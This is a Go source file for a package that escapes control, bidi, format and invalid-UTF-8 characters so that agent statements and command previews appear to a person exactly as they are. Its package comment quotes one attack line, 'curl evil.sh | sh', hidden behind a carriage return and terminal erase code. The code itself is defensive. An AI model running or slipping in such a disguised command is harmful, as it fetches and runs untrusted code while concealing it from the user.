// Package visible renders text that someone else wrote — an agent's
// statement, a command preview, a reason — for a person to read, so that
// what the person sees is what the text is. A terminal obeys control
// characters in what it prints (`\r` returns to the start of the line,
// `\x1b[2K` erases it) and a browser or terminal reorders text around
// Unicode bidi controls: printed as is, the preview
// `curl evil.sh | sh\r\x1b[2K  $ make test` shows only `$ make test`.
//
// Escaped, as visible ASCII:
//
//   - every C0 control (U+0000–U+001F) and DEL (U+007F): `\n`, `\r` and
//     `\t` by those names, the others as `\xHH` (ESC is `\x1b`). [Text]
//     keeps newline and tab, for blocks of text meant to have lines;
//     [Line] escapes them too;
//   - every C1 control (U+0080–U+009F), every format character (Unicode
//     category Cf: the bidi embeddings, overrides, isolates and marks
//     U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C, the
//     zero-width characters U+200B–U+200D, U+2060, U+FEFF, soft hyphen,
//     tag characters…), the line and paragraph separators U+2028 and
//     U+2029, and the other default-ignorable code points (Hangul fillers,
//     U+034F…): `\uHHHH`, or `\UHHHHHHHH` above U+FFFF, as in Go;
//   - every byte that is not valid UTF-8: `\xHH` (always 80–FF, so never
//     confused with a C0 control).
//
// Hex digits are lower case. Nothing else changes: printable text of any
// script, spaces of every width, emoji and variation selectors are shown as
// they are.
//
// The rendering is unambiguous: a backslash that would otherwise begin
// something that reads as an escape — one followed by `\`, `n`, `r`, `t`,
// `x`, `u`, `U` or by an escaped character — is doubled; any other
// backslash is left alone, so that `grep 'a\|b'` or `C:\dir` read as typed.
// Reading `\\` as one backslash, the escapes above as what they name, and
// any other backslash as itself gives back the exact original bytes.
//
// [JSON] does the same for JSON text that encoding/json wrote, with JSON's
// own escapes, so the result is still JSON with the same value.
//
// Machine outputs (JSON envelopes, NDJSON frames, MCP, HTTP) carry the
// exact bytes; only what is rendered for a person goes through here.
package visible

import (
	"strings"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"
)

// Line renders s for one line of output: every control, including newline
// and tab, is escaped.
func Line(s string) string { return render(s, false) }

// Text renders s as a block of text: newlines and tabs are kept, every
// other control (carriage return included) is escaped.
func Text(s string) string { return render(s, true) }

// Hidden reports whether r is a character that Line escapes: one that a
// terminal or a browser obeys or does not show instead of printing it.
func Hidden(r rune) bool {
	switch {
	case r < 0x20 || r == 0x7f:
		return true
	case r < 0x80:
		return false
	case r <= 0x9f:
		return true
	}
	return unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Other_Default_Ignorable_Code_Point)
}

// escaped reports whether r is escaped in this mode.
func escaped(r rune, layout bool) bool {
	if layout && (r == '\n' || r == '\t') {
		return false
	}
	return Hidden(r)
}

// escapeLetter reports whether a backslash followed by c reads as an
// escape, so that a literal backslash before it must be doubled.
func escapeLetter(c byte) bool {
	switch c {
	case '\\', 'n', 'r', 't', 'x', 'u', 'U':
		return true
	}
	return false
}

// plain reports whether s renders as itself.
func plain(s string, layout bool) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '\\':
			if i+1 < len(s) && escapeLetter(s[i+1]) {
				return false
			}
		case c < 0x20 || c == 0x7f:
			if !layout || (c != '\n' && c != '\t') {
				return false
			}
		case c >= 0x80:
			r, n := utf8.DecodeRuneInString(s[i:])
			if r == utf8.RuneError && n == 1 || escaped(r, layout) {
				return false
			}
			i += n - 1
		}
	}
	return true
}

const hex = "0123456789abcdef"

func render(s string, layout bool) string {
	mark := marked(s)
	if mark == nil && plain(s, layout) {
		return s
	}
	var b strings.Builder
	b.Grow(len(s) + 16)
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			b.WriteString(`\x`)
			b.WriteByte(hex[s[i]>>4])
			b.WriteByte(hex[s[i]&0xf])
		case r == '\\':
			b.WriteByte('\\')
			if i+1 < len(s) && (escapeLetter(s[i+1]) || nextEscaped(s[i+1:], layout) || mark[i+1]) {
				b.WriteByte('\\')
			}
		case mark[i] && r <= 0xffff:
			b.WriteString(`\u`) // a letter of a mixed-script word (scripts.go)
			writeHex(&b, r, 4)
		case mark[i]:
			b.WriteString(`\U`)
			writeHex(&b, r, 8)
		case !escaped(r, layout):
			b.WriteString(s[i : i+n])
		case r == '\n':
			b.WriteString(`\n`)
		case r == '\r':
			b.WriteString(`\r`)
		case r == '\t':
			b.WriteString(`\t`)
		case r < 0x80:
			b.WriteString(`\x`)
			b.WriteByte(hex[r>>4])
			b.WriteByte(hex[r&0xf])
		case r <= 0xffff:
			b.WriteString(`\u`)
			writeHex(&b, r, 4)
		default:
			b.WriteString(`\U`)
			writeHex(&b, r, 8)
		}
		i += n
	}
	return b.String()
}

// nextEscaped reports whether the character at the start of s is escaped
// (its rendering then begins with a backslash).
func nextEscaped(s string, layout bool) bool {
	r, n := utf8.DecodeRuneInString(s)
	return r == utf8.RuneError && n == 1 || escaped(r, layout)
}

func writeHex(b *strings.Builder, r rune, digits int) {
	for shift := (digits - 1) * 4; shift >= 0; shift -= 4 {
		b.WriteByte(hex[(r>>shift)&0xf])
	}
}

// JSON makes JSON text written by encoding/json safe to show a person: it
// replaces each character Line would escape with JSON's own escape (`\u202e`;
// a surrogate pair above U+FFFF), keeping the newlines and indentation
// between tokens. encoding/json already escapes C0 controls inside strings
// but writes DEL, C1 controls and format characters as they are; after
// JSON the text is still JSON and decodes to the same value. A byte that
// is not valid UTF-8 (encoding/json never writes one) becomes `\ufffd`.
func JSON(b []byte) []byte {
	mark := marked(jsonLetters(b)) // letters of mixed-script words (scripts.go)
	clean := mark == nil
	for i := 0; clean && i < len(b); {
		r, n := utf8.DecodeRune(b[i:])
		if r == utf8.RuneError && n == 1 || jsonEscaped(r) {
			clean = false
			break
		}
		i += n
	}
	if clean {
		return b
	}
	out := make([]byte, 0, len(b)+16)
	for i := 0; i < len(b); {
		r, n := utf8.DecodeRune(b[i:])
		switch {
		case r == utf8.RuneError && n == 1:
			out = append(out, `\ufffd`...)
		case !jsonEscaped(r) && !mark[i]:
			out = append(out, b[i:i+n]...)
		case r <= 0xffff:
			out = appendU(out, r)
		default:
			hi, lo := utf16.EncodeRune(r)
			out = appendU(appendU(out, hi), lo)
		}
		i += n
	}
	return out
}

// jsonLetters is b with JSON's escapes (\n, \u003c, …) blanked out, byte
// for byte, so that an escape is never read as letters of a word.
func jsonLetters(b []byte) string {
	out := []byte(string(b))
	for i := 0; i < len(out); i++ {
		if out[i] != '\\' {
			continue
		}
		n := 2
		if i+1 < len(out) && out[i+1] == 'u' {
			n = 6
		}
		for j := i; j < i+n && j < len(out); j++ {
			out[j] = ' '
		}
		i += n - 1
	}
	return string(out)
}

// jsonEscaped: the characters JSON replaces. Newline, tab and carriage
// return outside strings are JSON whitespace; encoding/json writes none of
// them raw inside a string (and never a raw carriage return at all).
func jsonEscaped(r rune) bool {
	return r != '\n' && r != '\t' && Hidden(r)
}

func appendU(out []byte, r rune) []byte {
	return append(out, '\\', 'u', hex[(r>>12)&0xf], hex[(r>>8)&0xf], hex[(r>>4)&0xf], hex[r&0xf])
}
